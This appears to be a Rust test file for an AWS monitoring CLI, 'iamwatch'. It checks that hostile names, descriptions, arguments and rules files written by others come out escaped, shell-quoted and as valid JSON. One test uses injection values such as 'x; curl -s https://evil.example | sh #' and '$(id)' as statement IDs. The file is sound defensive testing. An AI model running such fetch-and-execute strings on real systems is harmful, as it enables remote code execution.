//! Names, statements, descriptions, arguments and files of others, in the words of commands.

use serde_json::{Value, json};

use super::{HOSTILE, SHOWN, assert_tame};
use crate::cli::TestEnv;
use crate::cli_deploy::Folder;
use crate::organization::kit::Kit;

/// With a bus at home, on which others may write statements.
const RULES: &str = r#"version: 1
name: acme
home: { region: us-east-1 }
watch: { regions: [us-east-1, eu-west-1] }
trail: none
channels:
  security-mail: { email: security@example.com }
notify: { default: [security-mail] }
rules:
  - use: root/sign-in
  - use: signin/failed
"#;

const BUS: &str = "arn:aws:events:us-east-1:111122223333:event-bus/iamwatch-acme";

/// What is deployed, after an administrator of the account has written whatever he can.
fn altered(sid: &str) -> Folder {
    let folder = Folder::with(RULES);
    folder.succeed(&["apply", "--auto-approve"]);
    let deny = json!({ "Version": "2012-10-17", "Statement": [{
        "Sid": sid, "Effect": "Deny", "Principal": "*", "Action": "events:PutEvents", "Resource": BUS,
    }] });
    // XML has no such characters.
    let in_xml: String = HOSTILE
        .chars()
        .filter(|c| !matches!(c, '\u{1b}' | '\u{7}'))
        .collect();
    folder.aws(async |aws| {
        let bus = aws.events.put_permission().event_bus_name("iamwatch-acme");
        bus.policy(deny.to_string()).send().await.unwrap();
        let rule = aws.events.put_rule().name("iamwatch-acme-root.sign-in");
        let rule = rule.event_bus_name("iamwatch-acme").description(HOSTILE);
        let pattern = json!({ "source": [HOSTILE] });
        rule.event_pattern(pattern.to_string())
            .send()
            .await
            .unwrap();
        let topic = "arn:aws:sns:us-east-1:111122223333:iamwatch-acme-text_security-mail";
        let name = aws.sns.set_topic_attributes().topic_arn(topic);
        let name = name.attribute_name("DisplayName").attribute_value(&in_xml);
        name.send().await.unwrap();
        let reader = aws.sns.subscribe().topic_arn(topic).protocol("email");
        reader
            .endpoint(format!("a{in_xml}@example.com"))
            .send()
            .await
            .unwrap();
    });
    folder
}

#[test]
fn what_others_wrote_in_the_account_is_shown_as_it_is() {
    let folder = altered(HOSTILE);
    for (args, said) in [
        (&["plan"][..], SHOWN),
        (&["plan", "--prune"], SHOWN),
        (&["status"], "EVIL"),
        (&["test-event", "root/sign-in"], "EVIL"),
        (&["dlq"], "No dead letters"),
        (&["apply"], ""),
        (&["apply", "--auto-approve", "--prune"], SHOWN),
    ] {
        for color in ["never", "always"] {
            let args: Vec<&str> = args.iter().copied().chain(["--color", color]).collect();
            let (_, out, err) = folder.run(&args);
            let all = format!("{out}{err}");
            assert_tame(&args.join(" "), &all);
            // The second apply finds nothing of it any more.
            let is_over = args.contains(&"--prune") && color == "always";
            assert!(all.contains(said) || is_over, "{args:?}\n{all}");
            let has_colour = color == "always" && matches!(args[0], "plan" | "status");
            assert!(
                !has_colour || out.contains("\u{1b}["),
                "{args:?}: no colour\n{all}"
            );
        }
    }
}

#[test]
fn json_holds_all_of_it_without_a_raw_character() {
    let folder = altered(HOSTILE);
    for command in [&["plan"][..], &["status"], &["test-event", "root/sign-in"]] {
        let args: Vec<&str> = command.iter().copied().chain(["--json"]).collect();
        let (_, out, err) = folder.run(&args);
        assert_tame(&args.join(" "), &format!("{out}{err}"));
        let document: Value = serde_json::from_str(&out).unwrap();
        if command == ["plan"] {
            let found = document["changes"].as_array().unwrap().iter();
            let mut words = found.filter_map(|c| c["before"]["resource"]["description"].as_str());
            assert!(words.any(|words| words == HOSTILE), "{document:#}");
        }
    }
    let (_, out, err) = folder.run(&["apply", "--auto-approve", "--json"]);
    assert_tame("apply --json", &format!("{out}{err}"));
    for line in out.lines() {
        serde_json::from_str::<Value>(line).unwrap();
    }
}

#[test]
fn a_statements_name_is_a_word_in_the_command_to_paste() {
    for (sid, word) in [
        (
            "x; curl -s https://evil.example | sh #",
            "'x; curl -s https://evil.example | sh #'",
        ),
        ("$(id)", "'$(id)'"),
        ("it's", r"'it'\''s'"),
        ("a\nb", r"$'a\012b'"),
        ("Guest-1_a", "Guest-1_a"),
    ] {
        let folder = altered(sid);
        for command in ["status", "plan"] {
            let (_, out, _) = folder.run(&[command]);
            let wanted = format!("--event-bus-name iamwatch-acme --statement-id {word}\n");
            assert!(out.contains(&wanted), "{command}: {wanted}\n{out}");
        }
    }
}

#[test]
fn a_saved_plans_name_is_a_word_in_the_command_to_paste() {
    let folder = Folder::with(RULES);
    for (name, word) in [
        ("plan.json", "plan.json"),
        ("my plan.json", "'my plan.json'"),
        ("$(id).json", "'$(id).json'"),
        ("-x.json", "./-x.json"),
        ("a\u{1b}b.json", r"$'a\033b.json'"),
    ] {
        let out = folder.succeed(&["plan", &format!("--out={name}")]);
        let wanted = format!("`iamwatch apply {word}` does this");
        assert!(out.contains(&wanted), "{wanted}\n{out}");
    }
}

#[test]
fn names_of_accounts_are_single_lines() {
    let name = format!("shop{HOSTILE}");
    let kit = Kit::with(crate::organization::RULES, &[("444455556666", &name)]);
    for args in [
        &["plan"][..],
        &["coverage"],
        &["apply", "--auto-approve"],
        &["test-event", "--all-accounts"],
        &["plan", "--json"],
        &["coverage", "--json"],
        &["destroy", "--auto-approve"],
    ] {
        let said = kit.run(args);
        assert_tame(&args.join(" "), &format!("{}{}", said.out, said.err));
    }
}

#[test]
fn arguments_are_repeated_as_text() {
    let env = TestEnv::new();
    let hostile = |before: &str, after: &str| format!("{before}{HOSTILE}{after}");
    let (command, flag, file) = (hostile("pl", ""), hostile("--", ""), hostile("", ".yaml"));
    let (id, mail) = (hostile("1111", ""), hostile("--email=a", "@example.com"));
    for args in [
        &[command.as_str()][..],
        &["plan", &flag],
        &["plan", "--account", &id],
        &["patterns", "--severity", &id],
        &["patterns", &id],
        &["patterns", "--mitre", &id],
        &["explain-code", &id],
        &["like", &id],
        &["init", &mail],
        &["-f", &file, "check"],
        &["-f", &file, "plan"],
        &["-f", &file, "init"],
        &["compile", "--rule", &id],
        &["explain", &id],
        &["match", &id, "{}"],
        &["backtest", &id],
        &["backtest", "--since", &id, "logs"],
        &["sandbox", "confirm", &id],
        &["plan", "--sandbox", "--region", &id],
        &["plan", "--sandbox", "--adopt", &id],
        &["plan", "--sandbox", "--out", &file],
        &["apply", "--sandbox", &id],
        &["--profile", &id, "plan"],
    ] {
        for more in [&["--color", "always"][..], &["--json"]] {
            let args: Vec<&str> = args.iter().copied().chain(more.iter().copied()).collect();
            let (code, out, err) = env.run(&args);
            assert!((0..=2).contains(&code), "{args:?}: {code}");
            assert_tame(&format!("{args:?}"), &format!("{out}{err}"));
            for line in out.lines().filter(|line| line.starts_with("{\"")) {
                serde_json::from_str::<Value>(line).unwrap();
            }
        }
    }
    let (_, _, err) = env.run(&["plan", &flag]);
    assert!(err.contains("\\u{1b}[35mEVIL"), "{err}");
}

#[test]
fn rules_files_of_others_are_quoted_as_text() {
    let env = TestEnv::new();
    let inside = HOSTILE.replace('\r', "\\r").replace('\n', "\\n");
    let inside: String = inside
        .chars()
        .map(|c| match u32::from(c) {
            code @ (0..32 | 127..160) => format!("\\x{code:02x}"),
            _ => c.to_string(),
        })
        .collect();
    for rules in [
        format!("\"{inside}\": 1\n"),
        format!("version: 1\nname: \"{inside}\"\n"),
        format!("version: 1\nname: acme\nhome: {{ region: \"{inside}\" }}\n"),
        format!(
            "version: 1\nname: acme\nhome: {{ region: us-east-1 }}\nchannels: {{ \"{inside}\": {{ email: \"{inside}\" }} }}\nnotify: {{ default: [\"{inside}\"] }}\n"
        ),
        format!(
            "version: 1\nname: acme\nhome: {{ region: us-east-1 }}\nchannels: {{ a: {{ https: \"{inside}\" }} }}\nnotify: {{ default: [a] }}\nrules:\n  - use: \"{inside}\"\n"
        ),
        format!(
            "version: 1\nname: acme\nhome: {{ region: us-east-1 }}\nchannels: {{ a: {{ email: a@example.com }} }}\nnotify: {{ default: [a] }}\nrules:\n  - id: a\n    events: [\"iam:{inside}\"]\n    when: {{ \"{inside}\": \"{inside}\" }}\n    tests: [{{ name: \"{inside}\", like: \"iam:CreateUser\", expect: match }}]\n"
        ),
        HOSTILE.to_owned(),
        format!("version: 1 # {HOSTILE}\n"),
    ] {
        std::fs::write(env.path().join("iamwatch.yaml"), &rules).unwrap();
        for args in [
            &["check", "--color", "always"][..],
            &["check", "--json"],
            &["check", "--sarif"],
            &["compile"],
            &["plan", "--sandbox", "--json"],
            &["plan", "--sandbox"],
        ] {
            let (_, out, err) = env.run(args);
            assert_tame(&format!("{args:?} {rules:?}"), &format!("{out}{err}"));
            if args.contains(&"--sarif") {
                let sarif: Value = serde_json::from_str(&out).unwrap();
                for result in sarif["runs"][0]["results"].as_array().unwrap() {
                    let text = result["message"]["text"].as_str().unwrap();
                    assert!(!text.contains(['\u{1b}', '\u{202e}', '\u{9b}']), "{text:?}");
                }
            }
        }
    }
}

#[test]
fn a_pattern_that_was_compiled_stays_one_line_of_the_same_json() {
    let env = TestEnv::new();
    let rules = "version: 1\nname: acme\nhome: { region: us-east-1 }\nchannels: { a: { email: a@example.com } }\nnotify: { default: [a] }\nrules:\n  - id: a\n    events: [\"iam:CreateUser\"]\n    when: { userAgent: \"x\\x1b\\u202e\\x9b\" }\n";
    std::fs::write(env.path().join("iamwatch.yaml"), rules).unwrap();
    let (code, out, err) = env.run(&["compile"]);
    assert_eq!(code, 0, "{out}{err}");
    assert_tame("compile", &format!("{out}{err}"));
    assert_eq!(out.lines().count(), 1, "{out}");
    let pattern: Value = serde_json::from_str(&out).unwrap();
    let agent = &pattern.pointer("/detail/userAgent");
    let found = agent
        .map(|agent| agent.to_string())
        .unwrap_or_else(|| pattern.to_string());
    assert!(
        found.contains('\u{202e}') && found.contains('\u{9b}'),
        "{pattern}"
    );
}
